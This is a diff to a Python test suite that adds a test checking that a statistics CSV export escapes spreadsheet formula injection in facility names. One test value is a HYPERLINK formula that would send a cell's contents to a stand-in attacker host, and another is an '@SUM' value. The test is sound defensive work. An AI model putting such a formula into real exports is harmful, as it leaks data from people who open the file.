@@ -72,3 +72,25 @@ def test_a_chart_draws_text_as_outlines_with_no_number_for_a_small_bar() -> None
     assert stats_charts.bar_labels(cells, SMALL_TEXT, "x") == [SMALL_TEXT, "9"]
     # and nothing in it points anywhere but inside itself
     assert all(href.startswith("#") for href in re.findall(r'href="([^"]*)"', svg))
+
+
+def test_a_label_a_spreadsheet_would_run_is_written_as_text_in_the_csv() -> None:
+    from intake.exports.stats import count_documents, render_csv, suppress
+
+    from .stats_helpers import PUBLIC_EXAMPLES, example
+
+    # Given counts with facility rows, and a facility whose name (typed by a
+    # coordinator in the registry) is a formula that would send a cell away
+    stats = suppress(count_documents([example(name) for name in PUBLIC_EXAMPLES]))
+    assert stats.tables["facility"]
+    hostile = '=HYPERLINK("http://evil.example/?leak="&C2,"Jiafang Industrial Park")'
+
+    def label(vocabulary: str, code: str) -> str:
+        return hostile if vocabulary == "facility" else "@SUM(1)" if code == "2019" else code
+
+    # When the CSV is written
+    rows = list(csv.reader(io.StringIO(render_csv(stats, label).decode("utf-8-sig"))))
+    # Then the names are there as text, and no cell starts as a formula
+    labels = [row[2] for row in rows[1:]]
+    assert "'" + hostile in labels
+    assert all(cell[:1] not in "=+-@\t\r" for row in rows for cell in row if cell)
